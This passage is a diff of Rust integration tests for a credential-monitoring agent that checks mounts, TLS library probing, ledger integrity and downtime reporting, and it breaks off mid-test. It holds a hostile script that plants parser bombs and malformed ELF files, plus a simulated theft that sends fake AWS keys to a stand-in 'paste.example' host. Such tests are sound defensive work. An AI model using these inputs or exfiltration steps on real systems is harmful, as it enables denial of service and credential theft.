@@ -1,0 +1,1012 @@
+//! The agent on a node beside everything else: it keeps nothing from being unmounted, survives what
+//! an unprivileged user puts in its way, and reports truthfully when it was not there.
+
+use anyhow::{Context as _, Result, ensure};
+use lab::{
+    agent::{Agent, Surroundings, binary},
+    memory::differences,
+    server::TlsServer,
+    wait_for,
+    web::WebServer,
+    workload::{MemoryLimit, Unit, aws_credentials, sh},
+};
+use serde_json::Value;
+use std::{
+    fs::{self, File},
+    io::Write as _,
+    os::fd::OwnedFd,
+    path::{Path, PathBuf},
+    process::{Child, Command, Stdio},
+    time::{Duration, Instant},
+};
+
+/// The five capabilities that the unit and the chart give.
+const SHIPPED: [&str; 5] = [
+    "bpf",
+    "perfmon",
+    "net_admin",
+    "sys_ptrace",
+    "dac_read_search",
+];
+
+/// Where a library of the host is, by its links.
+fn library(name: &str) -> Result<PathBuf> {
+    let output = Command::new("ldconfig").arg("-p").output()?;
+    let text = String::from_utf8(output.stdout)?;
+    let line = text
+        .lines()
+        .find(|line| line.trim().starts_with(name) && line.contains("x86-64"))
+        .with_context(|| format!("the host has no {name}"))?;
+    let path = line.rsplit("=> ").next().context("a path")?;
+    Ok(fs::canonicalize(path.trim())?)
+}
+
+/// A file system of its own, unmounted when dropped, whatever happens.
+struct Mount(PathBuf);
+
+impl Mount {
+    fn tmpfs(at: &Path) -> Result<Self> {
+        fs::create_dir_all(at)?;
+        let status = Command::new("mount")
+            .args(["-t", "tmpfs", "lab"])
+            .arg(at)
+            .status()?;
+        ensure!(status.success(), "no tmpfs at {}", at.display());
+        Ok(Self(at.to_owned()))
+    }
+
+    /// Unmounts it at once, as a script does: no second attempt.
+    fn unmount(&self) -> Result<bool> {
+        Ok(Command::new("umount")
+            .arg(&self.0)
+            .stderr(Stdio::null())
+            .status()?
+            .success())
+    }
+}
+
+impl Drop for Mount {
+    fn drop(&mut self) {
+        // It may be gone already.
+        let _ = Command::new("umount")
+            .arg("-l")
+            .arg(&self.0)
+            .stderr(Stdio::null())
+            .status();
+    }
+}
+
+/// Whether a program of Python can use a copy of libssl at a place, and what it presents with it.
+fn python_with(library: &Path, script: &str, arguments: &[&str]) -> Command {
+    let mut command = Command::new("python3");
+    command
+        .env("LD_LIBRARY_PATH", library)
+        .args(["-c", script])
+        .args(arguments);
+    command
+}
+
+/// Copies of the TLS libraries in a directory of their own.
+fn private_libraries(directory: &Path) -> Result<PathBuf> {
+    let place = directory.join("libs");
+    fs::create_dir_all(&place)?;
+    for name in ["libssl.so.3", "libcrypto.so.3"] {
+        fs::copy(library(name)?, place.join(name))?;
+    }
+    Ok(place)
+}
+
+const PRESENT: &str = "import ssl, sys, urllib.request
+context = ssl.create_default_context()
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
+request = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + sys.argv[2]})
+urllib.request.urlopen(request, context=context).read()";
+
+/// Mounts and unmounts beside an agent with these capabilities; gives how many were busy.
+fn busy_mounts(capabilities: &[&str], rounds: usize) -> Result<usize> {
+    let directory = tempfile::tempdir()?;
+    let _agent = Agent::start_able(directory.path(), &[], capabilities)?;
+    let (ssl, crypto) = (library("libssl.so.3")?, library("libcrypto.so.3")?);
+    let mut busy = 0;
+    for round in 0..rounds {
+        let mount = Mount::tmpfs(&directory.path().join("mount"))?;
+        let inside = |name: &str| mount.0.join(name);
+        // Unpacked, renamed, read: as an image, a package or an environment is.
+        fs::copy(&ssl, inside("libssl.so.3.new"))?;
+        fs::rename(inside("libssl.so.3.new"), inside("libssl.so.3"))?;
+        fs::copy(&crypto, inside("libcrypto.so.3"))?;
+        fs::read(inside("libssl.so.3"))?;
+        // And every other time used, by a process that is gone when it is unmounted.
+        if round % 2 == 1 {
+            let script = "import ssl, ctypes; ctypes.CDLL('libssl.so.3')";
+            let output = python_with(&mount.0, script, &[]).output()?;
+            ensure!(output.status.success(), "{output:?}");
+        }
+        if !mount.unmount()? {
+            busy += 1;
+        }
+    }
+    Ok(busy)
+}
+
+#[test]
+fn no_mount_is_kept_busy_by_an_agent_of_root() -> Result<()> {
+    let busy = busy_mounts(&[], 200)?;
+    println!("200 mounts beside an agent of root: {busy} busy");
+    ensure!(busy == 0, "{busy} of 200 mounts were busy");
+    Ok(())
+}
+
+#[test]
+fn no_mount_is_kept_busy_by_an_agent_with_the_capabilities_of_the_chart() -> Result<()> {
+    let busy = busy_mounts(&SHIPPED, 200)?;
+    println!("200 mounts beside an agent with five capabilities: {busy} busy");
+    ensure!(busy == 0, "{busy} of 200 mounts were busy");
+    Ok(())
+}
+
+/// A library is first opened by those who install it. It is inspected when somebody uses it.
+#[test]
+fn a_library_that_a_short_process_opened_first_is_attached_to() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let agent = Agent::start(directory.path(), &[])?;
+    let server = WebServer::start("127.0.0.1")?;
+    let place = directory.path().join("venv/libs");
+    fs::create_dir_all(&place)?;
+    for name in ["libssl.so.3", "libcrypto.so.3"] {
+        sh(
+            &format!(
+                "cp {} {}/{name}; cat {}/{name} >/dev/null",
+                library(name)?.display(),
+                place.display(),
+                place.display()
+            ),
+            &[],
+        )?;
+    }
+    let url = format!("https://{}/", server.address);
+    let secret = "FAKE.copied-library-000000000000";
+    wait_for(
+        "what is presented through the copy",
+        Duration::from_secs(10),
+        || {
+            let output = python_with(&place, PRESENT, &[&url, secret]).output()?;
+            ensure!(output.status.success(), "{output:?}");
+            Ok((!agent.presented(secret)?.is_empty()).then_some(()))
+        },
+    )
+    .with_context(|| agent.log_text())?;
+    let line = format!(
+        "TLS probes attached file={}",
+        place.join("libssl.so.3").display()
+    );
+    ensure!(agent.log_text().contains(&line), "{}", agent.log_text());
+    Ok(())
+}
+
+/// An in-place change moves functions: probes at their old places would break the program.
+#[test]
+fn a_library_that_is_overwritten_in_place_loses_its_probes() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let agent = Agent::start(directory.path(), &[])?;
+    let server = WebServer::start("127.0.0.1")?;
+    let place = private_libraries(directory.path())?;
+    let copy = place.join("libssl.so.3");
+    let url = format!("https://{}/", server.address);
+    let attached = format!("TLS probes attached file={}", copy.display());
+    let detached = format!("TLS probes detached file={}", copy.display());
+    let count = |text: &str| agent.log_text().matches(text).count();
+    wait_for("probes in the copy", Duration::from_secs(10), || {
+        python_with(&place, PRESENT, &[&url, "FAKE.x"]).output()?;
+        Ok((count(&attached) == 1).then_some(()))
+    })?;
+    File::options()
+        .append(true)
+        .open(&copy)?
+        .write_all(b"more")?;
+    wait_for("no probes after the change", Duration::from_secs(2), || {
+        Ok((count(&detached) == 1).then_some(()))
+    })?;
+    let secret = "FAKE.overwritten-0000000000000";
+    wait_for(
+        "probes where the functions are now",
+        Duration::from_secs(10),
+        || {
+            python_with(&place, PRESENT, &[&url, secret]).output()?;
+            Ok((!agent.presented(secret)?.is_empty()).then_some(()))
+        },
+    )?;
+    Ok(())
+}
+
+#[test]
+fn excluded_programs_have_no_probes() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let python = Command::new("python3")
+        .args([
+            "-c",
+            "import os, sys; print(os.path.realpath('/proc/self/exe'))",
+        ])
+        .output()?;
+    let python = String::from_utf8(python.stdout)?.trim().to_owned();
+    let config = directory.path().join("config.yaml");
+    fs::write(&config, format!("inspect: {{ exclude: [{python}] }}\n"))?;
+    let path = config.display().to_string();
+    let agent = Agent::start(directory.path(), &["--config", &path])?;
+    let server = WebServer::start("127.0.0.1")?;
+    let url = format!("https://{}/", server.address);
+    let (hidden, shown) = (
+        "FAKE.excluded-000000000000000",
+        "FAKE.not-excluded-00000000000",
+    );
+    let ssl = library("libssl.so.3")?;
+    let mut excluded = Running(
+        Command::new("python3")
+            .args([
+                "-c",
+                "import ssl, sys; print('there', flush=True); sys.stdin.readline()",
+            ])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()?,
+    );
+    first_line(&mut excluded)?;
+    let python_presents = || -> Result<()> {
+        let status = Command::new("python3")
+            .args(["-c", PRESENT, &url, hidden])
+            .status()?;
+        ensure!(status.success());
+        Ok(())
+    };
+    python_presents()?;
+    // Another program on the same library: it waits for what it is to do.
+    let mut curl = Running(
+        Command::new("curl")
+            .args(["-K", "-"])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .spawn()?,
+    );
+    wait_for(
+        "probes in another program on the same library",
+        Duration::from_secs(10),
+        || Ok((differences(curl.0.id(), &ssl).is_ok_and(|found| !found.is_empty())).then_some(())),
+    )
+    .with_context(|| agent.log_text())?;
+    let request = format!("url = {url}\ninsecure\nheader = \"Authorization: Bearer {shown}\"\n");
+    let mut stdin = curl.0.stdin.take().context("its input")?;
+    stdin.write_all(request.as_bytes())?;
+    drop(stdin);
+    ensure!(curl.0.wait()?.success());
+    wait_for("what it presented", Duration::from_secs(5), || {
+        Ok((!agent.presented(shown)?.is_empty()).then_some(()))
+    })?;
+    python_presents()?;
+    ensure!(
+        differences(excluded.0.id(), &ssl)?.is_empty(),
+        "a probe is in an excluded program"
+    );
+    ensure!(agent.presented(hidden)?.is_empty(), "it was inspected");
+    let doctor = Command::new(binary()?)
+        .args(["doctor", "--config", &path])
+        .output()?;
+    let text = String::from_utf8_lossy(&doctor.stdout).into_owned();
+    ensure!(text.contains("inspect.exclude"), "{text}");
+    // Not excluded any more, without a restart.
+    fs::write(&config, "mode: alert\n")?;
+    agent.await_loaded()?;
+    wait_for(
+        "the program that was excluded",
+        Duration::from_secs(10),
+        || {
+            python_presents()?;
+            Ok((!agent.presented(hidden)?.is_empty()).then_some(()))
+        },
+    )?;
+    Ok(())
+}
+
+/// A program that is linked statically is excluded by itself: libraries stay as they are.
+#[test]
+fn excluding_a_static_program_changes_nothing_for_others() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let config = directory.path().join("config.yaml");
+    // Whatever it is: no program begins it.
+    let program =
+        std::env::var("KEYTRAIL_GO_NEWEST").context("run `cargo xtask scenarios node`")?;
+    fs::write(&config, format!("inspect: {{ exclude: [{program}] }}\n"))?;
+    let path = config.display().to_string();
+    let agent = Agent::start(directory.path(), &["--config", &path])?;
+    let server = WebServer::start("127.0.0.1")?;
+    let shown = "FAKE.beside-excluded-000000000";
+    let status = Command::new("curl")
+        .args(["-sSk", "-o", "/dev/null", "-H"])
+        .arg(format!("Authorization: Bearer {shown}"))
+        .arg(format!("https://{}/", server.address))
+        .status()?;
+    ensure!(status.success());
+    wait_for(
+        "the first thing that a short program presents",
+        Duration::from_secs(5),
+        || Ok((!agent.presented(shown)?.is_empty()).then_some(())),
+    )
+    .with_context(|| agent.log_text())?;
+    Ok(())
+}
+
+/// What a program says first.
+fn first_line(running: &mut Running) -> Result<String> {
+    let mut line = String::new();
+    let output = running.0.stdout.take().context("its output")?;
+    std::io::BufRead::read_line(&mut std::io::BufReader::new(output), &mut line)?;
+    Ok(line)
+}
+
+/// Ends a process of the test's own.
+struct Running(Child);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        // It may have ended.
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Result<Duration> {
+    let key = aws_credentials(
+        &directory.join(format!("victim-{number}")),
+        &format!("AKIAFAKETHEFT{number:07}"),
+        &format!("FAKE/theft/{number:029}"),
+    )?;
+    let thief = Unit::new("thief.service")?;
+    let actor = binary()?.with_file_name("lab-actor");
+    let place = key.display().to_string();
+    let began = Instant::now();
+    thief.sh(
+        &format!(
+            "{} --get open --path {place} --connect tls --to {} --name paste.example",
+            actor.display(),
+            server.address
+        ),
+        &[],
+    )?;
+    agent.await_finding(|finding| {
+        finding["rule"] == "unexpected-hop"
+            && finding["credential"]["sources"]
+                .as_array()
+                .is_some_and(|all| all.iter().any(|source| source["place"] == place.as_str()))
+    })?;
+    Ok(began.elapsed())
+}
+
+/// As user nobody, in a place of his own: each of these ended the agent, or switched a part of it off.
+const HOSTILE: &str = r#"import ctypes, mmap, os, struct, sys, time
+place = sys.argv[1]
+os.chdir(place)
+# A dotenv that doubles itself with each line.
+bomb = "A0=" + "x" * 40 + "\n" + "".join(f'A{n}="${{A{n-1}}}${{A{n-1}}}"\n' for n in range(1, 16))
+open(".env", "w").write(bomb)
+held = [open(".env")]
+# The same depth, in other forms.
+for name, text in [
+    ("config.json", "[" * 100000),
+    (".kube-config", ""),
+    ("credentials.json", '{"a":' * 50000),
+]:
+    open(name, "w").write(text)
+os.makedirs(".docker", exist_ok=True)
+open(".docker/config.json", "w").write('{"auths":' + "{" * 50000)
+held.append(open(".docker/config.json"))
+os.makedirs(".kube", exist_ok=True)
+lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"] + [f"a{n}: &a{n} [" + ",".join([f"*a{n-1}"] * 9) + "]" for n in range(1, 30)]
+open(".kube/config", "w").write("\n".join(lines))
+held.append(open(".kube/config"))
+# A library of 8 KB on disk with sections of gigabytes, for each table that is read.
+def library(name, section_type, size):
+    header = b"\x7fELF\x02\x01\x01" + b"\0" * 9
+    header += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 4096, 0, 64, 56, 1, 64, 4, 3)
+    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 4096, 4096, 4096)
+    def section(name, kind, offset, size, link):
+        return struct.pack("<IIQQQQIIQQ", name, kind, 0, 0, offset, size, link, 0, 1, 24)
+    sections = section(0, 0, 0, 0, 0) + section(1, section_type, 8192, size, 2)
+    sections += section(9, 3, 8192, size, 0) + section(17, 3, 4096 + 256, 64, 0)
+    names = b"\0.dynsym\0.dynstr\0.shstrtab\0".ljust(64, b"\0")
+    with open(name, "wb") as file:
+        file.write((header + program).ljust(4096, b"\0") + sections + names)
+        file.truncate(1 << 30)
+    os.chmod(name, 0o755)
+    file = open(name, "rb")
+    held.append(mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC))
+library("libssl.so.1", 11, (1 << 30) - 8192)
+library("libssl.so.2", 2, (1 << 30) - 8192)
+library("libssl.so.3", 11, 1 << 62)
+library("libgo.so", 11, 1 << 40)
+# A library with a pipe in its place, once it is mapped.
+library("libssl.so.4", 11, 100)
+os.mkfifo("pipe")
+os.rename("pipe", "libssl.so.4")
+print("held", flush=True)
+sys.stdin.read()
+"#;
+
+#[test]
+fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let limit = MemoryLimit::new("hostile", 192 << 20)?;
+    let surroundings = Surroundings {
+        group: Some(&limit.path),
+        ..Surroundings::default()
+    };
+    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    let server = TlsServer::start("127.0.0.1")?;
+    let place = tempfile::tempdir_in("/var/tmp")?;
+    let home = place.path().join("home/nobody");
+    fs::create_dir_all(&home)?;
+    sh(
+        &format!(
+            "chown -R 65534:65534 {0}; chmod 755 {0}",
+            place.path().display()
+        ),
+        &[],
+    )?;
+    let mut hostile = Running(
+        Command::new("setpriv")
+            .args([
+                "--reuid=65534",
+                "--regid=65534",
+                "--clear-groups",
+                "python3",
+                "-c",
+                HOSTILE,
+            ])
+            .arg(&home)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()?,
+    );
+    ensure!(
+        first_line(&mut hostile)? == "held\n",
+        "nobody's files are there"
+    );
+    let found = theft(&agent, directory.path(), &server, 1)?;
+    println!("a theft beside hostile files: found after {found:?}");
+    ensure!(found < Duration::from_secs(2), "found after {found:?}");
+    ensure!(agent.get("/healthz")?.0 == 200);
+    agent.stop()?;
+    // They are still there, and open and mapped, when it starts again.
+    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    let found = theft(&agent, directory.path(), &server, 2)?;
+    println!("after a restart: found after {found:?}");
+    ensure!(found < Duration::from_secs(2), "found after {found:?}");
+    // New libraries are still found.
+    let libs = private_libraries(directory.path())?;
+    let web = WebServer::start("127.0.0.1")?;
+    let url = format!("https://{}/", web.address);
+    let secret = "FAKE.after-hostile-00000000000";
+    wait_for("TLS in a new library", Duration::from_secs(20), || {
+        python_with(&libs, PRESENT, &[&url, secret]).output()?;
+        Ok((!agent.presented(secret)?.is_empty()).then_some(()))
+    })
+    .with_context(|| agent.log_text())?;
+    let peak = limit.peak().unwrap_or_default() >> 20;
+    println!("memory at most, with the cache of files: {peak} MiB of 192");
+    let began = Instant::now();
+    agent.stop()?;
+    ensure!(began.elapsed() < Duration::from_secs(12));
+    Ok(())
+}
+
+/// Another client of SQLite opens and closes the ledger while the agent writes: nothing is lost.
+#[test]
+fn another_client_of_the_ledger_costs_no_record() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let mut agent = Agent::start(directory.path(), &[])?;
+    let ledger = agent.state_dir.join("ledger.sqlite");
+    let client = format!(
+        "import sqlite3
+connection = sqlite3.connect('{}')
+print(connection.execute('select count(*) from credential').fetchone())
+connection.close()",
+        ledger.display()
+    );
+    let mut places = Vec::new();
+    for number in 0..6 {
+        let key = aws_credentials(
+            &directory.path().join(number.to_string()),
+            &format!("AKIAFAKESQL{number:09}"),
+            &format!("FAKE/sql/{number:031}"),
+        )?;
+        let place = key.display().to_string();
+        sh(&format!("cat {place} >/dev/null"), &[])?;
+        agent.await_json(&["query", "who", &place], |answer| {
+            answer["uses"]
+                .as_array()
+                .is_some_and(|uses| !uses.is_empty())
+        })?;
+        // A client that opens it, and one of Keytrail's own, which the agent observes as well.
+        let output = Command::new("python3").args(["-c", &client]).output()?;
+        ensure!(output.status.success(), "{output:?}");
+        // Somebody who has the file open while the agent looks what others have open.
+        places.push(place);
+    }
+    let wal = fs::metadata(agent.state_dir.join("ledger.sqlite-wal"))
+        .context("the log of the ledger was deleted under the agent")?;
+    let deleted = fs::read_dir(format!("/proc/{}/fd", agent.pid()))?
+        .flatten()
+        .filter_map(|entry| fs::read_link(entry.path()).ok())
+        .any(|path| {
+            path.to_string_lossy().contains("ledger.sqlite")
+                && path.to_string_lossy().contains("(deleted)")
+        });
+    ensure!(
+        !deleted && wal.len() > 0,
+        "the agent writes to a deleted file"
+    );
+    agent.kill()?;
+    for place in &places {
+        let known = agent.json(&["query", "who", place])?;
+        ensure!(known.is_some(), "{place} is lost");
+    }
+    Ok(())
+}
+
+/// The same for a client that has the ledger open when the agent starts, as `sqlite3` in a terminal.
+#[test]
+fn a_ledger_that_is_open_elsewhere_at_the_start() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let mut agent = Agent::start(directory.path(), &[])?;
+    let ledger = agent.state_dir.join("ledger.sqlite");
+    agent.stop()?;
+    let mut held = Running(
+        Command::new("python3")
+            .args([
+                "-c",
+                "import sqlite3, sys
+connection = sqlite3.connect(sys.argv[1])
+connection.execute('select count(*) from credential').fetchone()
+print('open', flush=True)
+sys.stdin.read()",
+            ])
+            .arg(&ledger)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()?,
+    );
+    ensure!(first_line(&mut held)? == "open\n");
+    let mut agent = Agent::start(directory.path(), &[])?;
+    drop(held);
+    let output = Command::new("python3")
+        .args([
+            "-c",
+            "import sqlite3, sys
+sqlite3.connect(sys.argv[1]).execute('select 1 from credential').fetchone()",
+        ])
+        .arg(&ledger)
+        .output()?;
+    ensure!(output.status.success(), "{output:?}");
+    let key = aws_credentials(
+        directory.path(),
+        "AKIAFAKESQL900000000",
+        &"FAKE/sql/".repeat(5)[..40],
+    )?;
+    let place = key.display().to_string();
+    sh(&format!("cat {place} >/dev/null"), &[])?;
+    agent.await_json(&["query", "who", &place], |answer| {
+        answer["uses"]
+            .as_array()
+            .is_some_and(|uses| !uses.is_empty())
+    })?;
+    agent.kill()?;
+    ensure!(
+        agent.json(&["query", "who", &place])?.is_some(),
+        "it is lost"
+    );
+    Ok(())
+}
+
+/// Whoever reads findings stops reading: that costs lines, which are counted, and nothing else.
+#[test]
+fn a_reader_of_findings_that_stops_reading() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let (reader, writer) = std::io::pipe()?;
+    let writer = File::from(OwnedFd::from(writer));
+    let mut agent = Agent::start_as(
+        directory.path(),
+        &[],
+        &Surroundings {
+            stdout: Some(&writer),
+            ..Surroundings::default()
+        },
+    )?;
+    drop(writer);
+    let server = TlsServer::start("127.0.0.1")?;
+    // More findings than a pipe and the queue hold: each token is one.
+    let script = "import socket, sys
+host, port = sys.argv[1].split(':')
+for number in range(6000):
+    connection = socket.create_connection((host, int(port)))
+    connection.sendall(f'GET / HTTP/1.1\\r\\nHost: a.example\\r\\nAuthorization: Bearer ghp_FAKE{number:032}\\r\\n\\r\\n'.encode())
+    connection.close()";
+    let plain = WebServer::start_plain("127.0.0.1")?;
+    let status = Command::new("python3")
+        .args(["-c", script, &plain.address.to_string()])
+        .status()?;
+    ensure!(status.success());
+    let lost = || agent.metric("keytrail_events_lost_total", &["stage=\"stream\""]);
+    wait_for("lines are counted as lost", Duration::from_secs(60), || {
+        Ok((lost()? > 0.0).then_some(()))
+    })
+    .with_context(|| agent.log_text())?;
+    // Detection, ledger and metrics go on.
+    let key = aws_credentials(
+        directory.path(),
+        "AKIAFAKESTOPPED00000",
+        &"FAKE/stopped/".repeat(4)[..40],
+    )?;
+    let place = key.display().to_string();
+    let thief = Unit::new("thief.service")?;
+    let actor = binary()?.with_file_name("lab-actor");
+    let began = Instant::now();
+    thief.sh(
+        &format!(
+            "{} --get open --path {place} --connect tls --to {} --name paste.example",
+            actor.display(),
+            server.address
+        ),
+        &[],
+    )?;
+    agent.await_json(&["query", "where", &place], |answer| {
+        answer["hops"]
+            .as_array()
+            .is_some_and(|hops| hops.len() == 1)
+    })?;
+    println!(
+        "beside a stopped reader: {} lines lost, a theft in the ledger after {:?}",
+        lost()?,
+        began.elapsed()
+    );
+    ensure!(agent.get("/healthz")?.0 == 200);
+    let findings = agent.await_json(&["findings", "--rule", "unexpected-hop"], |answer| {
+        answer["findings"].as_array().is_some_and(|all| {
+            all.iter()
+                .any(|finding| finding["workload"]["unit"] == "thief.service")
+        })
+    })?;
+    let gaps = findings["gaps"].as_array().cloned().unwrap_or_default();
+    ensure!(
+        gaps.iter().any(|gap| gap["detail"]
+            .as_str()
+            .is_some_and(|detail| detail.contains("stream"))),
+        "the lost lines are a gap: {gaps:?}"
+    );
+    let began = Instant::now();
+    agent.stop()?;
+    ensure!(
+        began.elapsed() < Duration::from_secs(12),
+        "it ends: {:?}",
+        began.elapsed()
+    );
+    drop(reader);
+    Ok(())
+}
+
+/// The gaps of a kind, once there is one.
+fn gaps_of(agent: &Agent, kind: &str) -> Result<Vec<Value>> {
+    let of_kind = |answer: &Value| -> Vec<Value> {
+        let gaps = answer["gaps"].as_array().cloned().unwrap_or_default();
+        gaps.into_iter().filter(|gap| gap["kind"] == kind).collect()
+    };
+    let answer = agent.await_json(&["query", "timeline"], |answer| !of_kind(answer).is_empty())?;
+    Ok(of_kind(&answer))
+}
+
+/// Attempts to start that fail do not hide that nothing was running.
+#[test]
+fn failed_starts_hide_no_downtime() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let mut agent = Agent::start(directory.path(), &[])?;
+    let listen = agent.listen.to_string();
+    agent.kill()?;
+    let killed = jiff::Timestamp::now();
+    // Its port is another's now.
+    let taken = std::net::TcpListener::bind(&listen)?;
+    for _ in 0..3 {
+        let output = Command::new(binary()?)
+            .args([
+                "run",
+                "--findings",
+                "/dev/null",
+                "--listen",
+                &listen,
+                "--state-dir",
+            ])
+            .arg(&agent.state_dir)
+            .output()?;
+        ensure!(output.status.code() == Some(1), "{output:?}");
+        // Time must pass that could be hidden.
+        wait_for("a moment", Duration::from_secs(2), || {
+            let passed = jiff::Timestamp::now().duration_since(killed);
+            Ok((passed.as_millis() > 600).then_some(()))
+        })?;
+    }
+    drop(taken);
+    let agent = Agent::start(directory.path(), &[])?;
+    let started = jiff::Timestamp::now();
+    let gaps = gaps_of(&agent, "agent-down")?;
+    ensure!(gaps.len() == 1, "one time without an agent: {gaps:?}");
+    let time = |name: &str| -> Result<jiff::Timestamp> {
+        Ok(gaps[0][name].as_str().context("a time")?.parse()?)
+    };
+    ensure!(
+        time("since")? <= killed,
+        "it begins when the agent was killed: {gaps:?}"
+    );
+    ensure!(
+        time("until")? <= started && time("until")? > killed,
+        "{gaps:?}"
+    );
+    ensure!(
+        gaps[0]["detail"]
+            .as_str()
+            .is_some_and(|detail| detail.contains("killed")),
+        "{gaps:?}"
+    );
+    Ok(())
+}
+
+/// Others open files with the names and the inode numbers of the self-test's, all the time.
+#[test]
+fn starts_beside_files_with_the_same_inode_number() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    // File systems of their own begin with the same numbers.
+    let state = Mount::tmpfs(&directory.path().join("agent"))?;
+    let others = Mount::tmpfs(&directory.path().join("others"))?;
+    for number in 0..40 {
+        let folder = others.0.join(number.to_string());
+        fs::create_dir(&folder)?;
+        fs::write(folder.join(".netrc"), "machine a login b password FAKE")?;
+    }
+    let _opener = Running(
+        Command::new("python3")
+            .args([
+                "-c",
+                "import glob, sys
+paths = glob.glob(sys.argv[1] + '/*/.netrc')
+while True:
+    for path in paths:
+        open(path).close()",
+            ])
+            .arg(&others.0)
+            .spawn()?,
+    );
+    for start in 0..7 {
+        let mut agent = Agent::start(&state.0, &[]).with_context(|| format!("start {start}"))?;
+        agent.stop()?;
+    }
+    Ok(())
+}
+
+/// Two agents on one host, as during an upgrade by hand: neither fails, nor flags the other.
+#[test]
+fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let (one, two) = (directory.path().join("one"), directory.path().join("two"));
+    fs::create_dir_all(&one)?;
+    fs::create_dir_all(&two)?;
+    let first = Agent::start(&one, &[])?;
+    let second = Agent::start(&two, &[])?;
+    let key = aws_credentials(
+        directory.path(),
+        "AKIAFAKETWOAGENTS000",
+        &"FAKE/two/".repeat(5)[..40],
+    )?;
+    let place = key.display().to_string();
+    let unit = Unit::new("reader.service")?;
+    // Read with a variable that points to it: an agent looks into the environment and the file.
+    unit.sh(
+        "cat $AWS_SHARED_CREDENTIALS_FILE; curl -sSk https://127.0.0.1:1/ || true",
+        &[
+            ("AWS_SHARED_CREDENTIALS_FILE", &place),
+            ("GITHUB_TOKEN", "ghp_FAKEtwoagents0000000000000000000001"),
+        ],
+    )?;
+    for agent in [&first, &second] {
+        agent.await_json(&["query", "who", &place], |answer| {
+            answer["uses"]
+                .as_array()
+                .is_some_and(|uses| !uses.is_empty())
+        })?;
+        let findings = agent.findings()?;
+        let about_agents: Vec<&Value> = findings
+            .iter()
+            .filter(|finding| finding.to_string().contains("/keytrail\""))
+            .collect();
+        ensure!(about_agents.is_empty(), "{about_agents:?}");
+        ensure!(agent.get("/healthz")?.0 == 200);
+        let uses = agent
+            .json(&["query", "who", &place])?
+            .context("an answer")?;
+        ensure!(!uses.to_string().contains("/keytrail\""), "{uses}");
+    }
+    Ok(())
+}
+
+/// A volume of a pod that was there before the agent, read by another pod: it is known by where the
+/// kubelet has it, whatever its name in the pod.
+#[test]
+fn a_secret_volume_older_than_the_agent() -> Result<()> {
+    let directory = tempfile::tempdir()?;
+    let uid = "0d1e2f30-1111-4222-8333-444455556666";
+    let pods = KubeletDirectory::new(uid)?;
+    let volume = pods.0.join("volumes/kubernetes.io~secret/app");
+    let mount = Mount::tmpfs(&volume)?;
+    let edition = volume.join("..2026_11_26");
+    fs::create_dir(&edition)?;
+    fs::write(edition.join("blob"), "FAKE-older-than-the-agent-0001")?;
+    std::os::unix::fs::symlink("..2026_11_26", volume.join("..data"))?;
+    // A process with the volume at a place that says nothing, as a container has it.
+    let etc = directory.path().join("app");
+    fs::create_dir(&etc)?;
+    let mut container = Running(
+        Command::new("unshare")
+            .args([
+                "--mount",
+                "sh",
+                "-c",
+                "mount --bind \"$0\" \"$1\" && echo there && read go && cat \"$1\"/..data/blob",
+            ])
+            .arg(&volume)
+            .arg(&etc)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()?,
+    );
+    ensure!(first_line(&mut container)? == "there\n");
+    let agent = Agent::start(directory.path(), &[])?;
+    // Found again in the background.
+    let place = edition.join("blob").display().to_string();
+    let normal = place.replace("..2026_11_26/", "");
+    let mut stdin = container.0.stdin.take().context("its input")?;
+    wait_for(
+        "a read through the other name",
+        Duration::from_secs(10),
+        || {
+            let status = Command::new("nsenter")
+                .args(["--mount", "--target", &container.0.id().to_string(), "cat"])
+                .arg(etc.join("..data/blob"))
+                .stdout(Stdio::null())
+                .status()?;
+            ensure!(status.success());
+            let known = agent.json(&["query", "who", &normal])?;
+            Ok(known.filter(|answer| !answer["uses"].as_array().is_none_or(Vec::is_empty)))
+        },
+    )
+    .with_context(|| format!("{normal}\n{}", agent.log_text()))?;
+    stdin.write_all(b"go\n")?;
+    drop((mount, pods));
+    Ok(())
+}
+
+/// A pod's directory where the kubelet has them, removed when dropped with what was made for it.
+struct KubeletDirectory(PathBuf);
+
+impl KubeletDirectory {
+    fn new(uid: &str) -> Result<Self> {
+        let path = Path::new("/var/lib/kubelet/pods").join(uid);
+        fs::create_dir_all(&path)?;
+        Ok(Self(path))
+    }
+}
+
+impl Drop for KubeletDirectory {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+        // Only what is empty: there may be a kubelet on this machine.
+        for above in self.0.ancestors().skip(1).take(2) {
+            let _ = fs::remove_dir(above);
+        }
+    }
+}
+
+/// On kernels without multi-uprobe links a killed agent leaves its events in tracefs. They do not
+/// delay the next one, which deletes them.
+#[test]
+fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
+    const FILES: usize = 40;
